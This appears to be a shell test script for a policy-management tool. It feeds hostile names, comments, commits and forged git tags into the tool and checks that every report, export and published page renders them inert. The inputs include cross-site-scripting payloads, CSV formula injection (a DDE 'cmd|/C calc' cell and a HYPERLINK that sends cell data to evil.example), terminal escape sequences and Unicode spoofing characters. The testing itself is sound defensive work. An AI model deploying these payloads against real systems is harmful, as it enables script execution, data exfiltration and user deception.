# Whoever writes texts, names, comments, messages and tags writes to everybody who reads a report of them.
# Whatever they write, no report holds it in a form that runs, loads, leads astray, or moves a terminal.
inert() { "${0%/*}/inert" "$@"; }
escape=$'\e]0;owned\a\e[2J' override=$'\u202egnp.exe' hidden=$'in\u200bvisible'
formula='=HYPERLINK("https://evil.example/?"&A1,"Pay here")'
live='<script >alert(1)</script ><img src=https://evil.example/p.png onerror=alert(1) >'
markdown='[click](javascript:alert(1)) ![x](https://evil.example/p.png) `x`'

# What tells live from inert must itself tell it.
live_is_told() {
  printf '%s' "$2" >"$WORK/sample"
  ! inert "$1" "$WORK/sample" >/dev/null || fail "$1: this passes as inert: $2"
}
for sample in "$escape" "$override" "$hidden"; do live_is_told text "$sample"; done
live_is_told json "{\"a\": \"$override\"}"
for cell in "$formula" '@SUM(A1)' "+1" "-1+cmd" " =1" 'a;=1'; do live_is_told csv "a,b"$'\r\n'"x,\"${cell//\"/\"\"}\""$'\r\n'; done
for page in "$live" '<a href="javascript:alert(1)">' '<p onclick=x>' '<p style="x">' '<svg><use href=x>' '<!--x-->'; do
  live_is_told html "default-src 'none' $page"
  live_is_told markdown "$page"
done
live_is_told markdown "$markdown"
live_is_told html "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\"><script>alert(1)</script>"
live_is_told html "default-src 'none' <script type=application/json>{\"a\": \"<!--\"}</script>"
live_is_told xml '<feed><content type="html">x</content></feed>'
live_is_told xml '<feed><link href="javascript:alert(1)"/></feed>'

# An organisation, its people, and a policy of which every part is hostile.
given_keys
writ init "$WORK/policies" --organisation '=1+1 & "Söhne" javascript:alert(1)' --minimal --no-hooks --quiet
cd "$WORK/policies"
writ new policy information-security --quiet
writ people add jane-doe --name "=1+1 $markdown" --email jane@example.org --role chief-executive --key ../jane.pub --quiet
writ people add sam-lee --name "@SUM(A1:A9) Sam" --email sam@example.org --role ciso --key ../sam.pub --quiet
writ people add bo-berg --name "Bo & 'Berg' -" --email bo@example.org --role board-member --key ../bo.pub --quiet
sed -i "s/title: Board member/title: \"-2+3+cmd|' \/C calc'!A1 www.evil.example\"/" writ.yaml
hostile_body() {
  printf '\n## Suppliers %s\n\n%s\n\n%s\n\n<iframe src="https://evil.example"></iframe>\n\n' "$markdown" "$live" "$formula"
  printf '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg> <https://evil.example> www.evil.example\n\n'
  printf '[a](data:text/html,<script>alert(1)</script>) [b](\tjavascript:alert(1)) [c](JaVaScRiPt:alert(1)) [d][e]\n\n'
  printf '[e]: javascript:alert(1) "t"\n\n```<script>\n</code></pre><script>alert(1)</script>\n```\n\n| %s | - |\n|---|---|\n| %s | =1 |\n' "$formula" "$live"
}
hostile_body >>$policy
sed -i -e '1,/^# /{s/^title: .*/title: '"'=1+1 [click](javascript:alert(1)) www.evil.example'"'/' \
  -e 's/^  summary: .*/  summary: "=1+1 <script >alert(2)<\/script> [x](javascript:alert(2))"/' \
  -e 's/^  reason: .*/  reason: "<img src=x onerror=alert(3) > @SUM(A1)"/}' $policy
writ new policy long --title "+1 long" --quiet
sed -i -e 's/"{{[^}]*}}"/x/; s/{{[^}]*}}/x/g' policies/long.md
for i in $(seq 2000); do echo "$i =1+1 <b>x</b>"; done >>policies/long.md
git add -A
git -c user.name="=1+1 $escape$override" commit -qm "=1+1 $escape $live $override" -m "Co-authored-by: $escape <jane@example.org>"
approve jane governance --accept-warnings --comment "$formula"
approve sam governance --accept-warnings
for person in jane sam; do
  approve "$person" information-security --comment "$live"$'\n\n'"$formula $markdown" || fail "it takes no comment"
done
approve bo long --comment "@SUM(A1) </details></main><script>alert(4)</script>"
decide sam reaffirm information-security --comment "$live"

# What the commands refuse can be pushed all the same: a draft, a name of a file, tags, branches.
printf -- '---\nid: draft\nkind: policy\nlevel: topic\ntitle: "=1+1 x"\nversion: 1.0\nchange: {summary: "%s"}\n---\n\n# %s\n\n%s %s\n' \
  "$live" "$escape" "$override" "$hidden" | sed 's/summary: "\(.*\)"}/summary: '"'"'\1'"'"'}/' >policies/draft.md
sed 's/^id: .*/id: other/' policies/draft.md >"policies/$escape=1.md"
git add -A && git commit -qm "$override $escape=1+1" --no-verify
tag=writ/information-security/1.0/approve/jane-doe
git cat-file tag $tag | sed "s/^=HYPER.*/$override $(printf '\033')[2J&/" | git hash-object -w --literally -t tag --stdin >"$WORK/forged"
git update-ref "refs/tags/writ/=1+1/<script>alert(6)</script>/$override" "$(cat "$WORK/forged")"
git update-ref refs/tags/writ/information-security/1.0/reject/bo-berg "$(cat "$WORK/forged")"
writ change open information-security --major --summary "=1+1 $live" --reason "$formula $markdown" --quiet
printf '\n%s %s\n' "$formula" "$live" >>$policy
expect 0 writ change submit
cp "$WORK/.out" "$WORK/request.text"
cp request-information-security-2.0.html "$WORK/request.html"

# holds_nothing FORM NAME COMMAND …: what it prints, on either stream, is inert, and is not nothing.
holds_nothing() {
  local form=$1 name=$2; shift 2
  "$@" >"$WORK/$name" 2>"$WORK/$name.talk" || [ $? = 1 ] || fail "$* ended with $?"
  [ -s "$WORK/$name" ] || fail "$* says nothing"
  inert "$form" "$WORK/$name" || fail "$form of $*"
  inert text "$WORK/$name.talk" || fail "talk of $*"
}
inert text "$WORK/request.text" || fail "the text of a request"
inert html "$WORK/request.html" || fail "the page of a request"
for form in text json; do
  for command in status verify people check "show information-security" "show long" "diff information-security --word" \
    history "change list" "inbox --offline --person bo-berg" "export codeowners" root; do
    holds_nothing "$form" "${command// /-}.$form" as jane writ $command --format "$form"
  done
done
for form in text json markdown html; do holds_nothing "$form" "brief.$form" as jane writ brief jane-doe --format "$form"; done
for form in csv markdown html; do holds_nothing "$form" "history.$form" as jane writ history --format "$form"; done

# Folders: every file but those that are the approved bytes themselves, and the repository in one file.
as jane writ publish --output "$WORK/site" --quiet 2>"$WORK/.err" || fail "publish"
as jane writ publish --output "$WORK/site-inside" --audience confidential --quiet 2>"$WORK/.err" || fail "publish"
as jane writ evidence --clause 5.2 --output "$WORK/pack" --quiet 2>"$WORK/.err" || fail "evidence"
(cd "$WORK" && find site site-inside pack -type f) >"$WORK/files"
while read -r file; do
  case $file in
    *.html) inert html "$WORK/$file" ;;
    *.json) inert json "$WORK/$file" ;;
    *.csv) inert csv "$WORK/$file" ;;
    *.xml) inert xml "$WORK/$file" ;;
    *.txt | */allowed_signers) inert text "$WORK/$file" ;;
    pack/VERIFY.md) inert markdown "$WORK/$file" ;;
    */documents/*.md | */policies/*.md | *.bundle | *.yaml) ;;
    *) fail "what is $file?" ;;
  esac || fail "$file"
done <"$WORK/files"
for folder in site site-inside pack; do
  "$examples/../Pages/links" "$WORK/$folder" >"$WORK/.out" || fail "links of $folder"
done

# And it is there to be read: nobody gets round a reader by being left out.
for word in 'HYPERLINK' 'alert(1)' 'SUM(A1)'; do
  for form in text json csv markdown html; do
    python3 -c "import html, sys; sys.exit(sys.argv[1] not in html.unescape(open(sys.argv[2]).read().replace('\\\\', '')))" \
      "$word" "$WORK/history.$form" || fail "history as $form leaves out $word"
  done
done
